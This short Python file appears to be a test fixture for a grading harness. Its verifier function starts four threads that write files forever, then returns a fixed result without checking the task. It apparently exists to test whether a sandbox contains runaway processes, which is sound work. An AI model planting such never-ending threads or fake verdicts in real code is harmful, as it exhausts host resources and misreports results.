"""Leave threads behind that go on writing after the verifier has answered, and that refuse to end."""

import threading
import time


def work():
    number = 0
    while True:
        number += 1
        try:
            open(f"late-{number % 100}", "w").write("x" * 1000)
        except OSError:
            time.sleep(0.001)


def verify_task_completion(initial_db_path, final_db_path, final_answer):
    for _ in range(4):
        threading.Thread(target=work).start()
    return {"result": "others"}
